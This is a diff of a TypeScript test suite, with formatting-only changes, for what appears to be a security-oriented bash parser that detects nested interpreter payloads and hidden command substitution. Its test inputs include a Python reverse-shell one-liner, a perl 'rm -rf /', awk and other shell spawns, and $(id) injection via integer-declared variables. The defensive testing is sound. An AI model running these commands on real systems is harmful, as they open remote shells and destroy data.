@@ -46,7 +46,13 @@ describe('decoding words to what bash passes', () => {
 
   it('marks globs, and expands braces into the words bash passes', () => {
     const argv = parseScript('ls *.c {a,b} "*.h"').segments[0]!.argv;
-    expect(argv.map((w) => [w.text, w.glob])).toEqual([['ls', false], ['*.c', true], ['a', false], ['b', false], ['*.h', false]]);
+    expect(argv.map((w) => [w.text, w.glob])).toEqual([
+      ['ls', false],
+      ['*.c', true],
+      ['a', false],
+      ['b', false],
+      ['*.h', false],
+    ]);
   });
 
   it('spans point at the bytes of the command', () => {
@@ -217,18 +223,20 @@ describe('wrappers come off, from a declarative registry', () => {
 
 describe('interpreter one-liners', () => {
   it('scans python for what it can do and parses its shell commands', () => {
-    const s = parseScript(`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`);
+    const s = parseScript(
+      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
+    );
     expect(s.segments[0]!.payload!.capabilities).toEqual(expect.arrayContaining(['network', 'fd-dup', 'pty', 'exec']));
     expect(s.segments[1]!.program).toBe('sh');
   });
 
   it.each([
-    ["perl -e 'system(\"rm -rf /\")'", 'perl', 'rm'],
+    ['perl -e \'system("rm -rf /")\'', 'perl', 'rm'],
     ["ruby -e '`id`'", 'ruby', 'id'],
-    ["node -e 'require(\"child_process\").execSync(\"id\")'", 'javascript', 'id'],
-    ["php -r 'shell_exec(\"id\");'", 'php', 'id'],
-    ["awk 'BEGIN {system(\"/bin/sh\")}'", 'awk', 'sh'],
-    ["lua -e 'os.execute(\"id\")'", 'lua', 'id'],
+    ['node -e \'require("child_process").execSync("id")\'', 'javascript', 'id'],
+    ['php -r \'shell_exec("id");\'', 'php', 'id'],
+    ['awk \'BEGIN {system("/bin/sh")}\'', 'awk', 'sh'],
+    ['lua -e \'os.execute("id")\'', 'lua', 'id'],
   ])('%s', (cmd, language, nested) => {
     const s = parseScript(cmd);
     expect(s.segments[0]!.payload!.language).toBe(language);
@@ -359,7 +367,9 @@ describe('what tree-sitter leaves as text, and what declarations change', () => 
     for (const cmd of ['case x in a`id`) ls ;; esac', 'case x in foo$(id)|b) ls ;; esac', '[[ a =~ `id` ]]']) {
       const s = parseScript(cmd);
       // either the substitution is found, or the command is refused
-      expect(s.segments.some((g) => g.program === 'id') || s.issues.some((i) => i.code === 'parse-error'), cmd).toBe(true);
+      expect(s.segments.some((g) => g.program === 'id') || s.issues.some((i) => i.code === 'parse-error'), cmd).toBe(
+        true,
+      );
     }
     expect(issues('case x in *.txt|a) ls ;; esac')).toEqual([]);
     expect(issues('[[ $x =~ ^[0-9]+$ ]]')).toEqual([]);
@@ -368,13 +378,22 @@ describe('what tree-sitter leaves as text, and what declarations change', () => 
   it('a variable declared integer evaluates what it is assigned: its subscripts run commands', () => {
     for (const cmd of ["declare -i n; n='a[$(id)]'", "local -i n='a[$(id)]'", "typeset -i n; export n='a[$(id)]'"]) {
       const s = parseScript(cmd);
-      expect(s.issues.map((i) => i.code), cmd).toContain('evaluated-code');
-      expect(s.segments.some((g) => g.program === 'id'), cmd).toBe(true);
+      expect(
+        s.issues.map((i) => i.code),
+        cmd,
+      ).toContain('evaluated-code');
+      expect(
+        s.segments.some((g) => g.program === 'id'),
+        cmd,
+      ).toBe(true);
     }
   });
 
   it('a value assigned to a name with a case or integer attribute is only known at run time', () => {
-    const value = (cmd: string, name: string) => parseScript(cmd).assignments.filter((a) => a.name === name).at(-1)!.value!;
+    const value = (cmd: string, name: string) =>
+      parseScript(cmd)
+        .assignments.filter((a) => a.name === name)
+        .at(-1)!.value!;
     expect(value('declare -u z; z=abc', 'z').dynamic).toBe(true);
     expect(value('declare -l z=ABC', 'z').dynamic).toBe(true);
     expect(value('declare -i n; n=1+1', 'n').dynamic).toBe(true);
@@ -407,7 +426,10 @@ describe('more words tree-sitter reads otherwise than bash', () => {
   });
 
   it('inside "…", a backquoted command loses the backslash before " (and outside it keeps it)', () => {
-    const inner = (cmd: string) => parseScript(cmd).segments.filter((g) => g.via === 'substitution').map((g) => g.argv.map((w) => w.text));
+    const inner = (cmd: string) =>
+      parseScript(cmd)
+        .segments.filter((g) => g.via === 'substitution')
+        .map((g) => g.argv.map((w) => w.text));
     expect(inner('echo "`a \\"b\\"`"')).toEqual([['a', 'b']]);
     expect(inner('echo `a \\"b\\"`')).toEqual([['a', '"b"']]);
   });
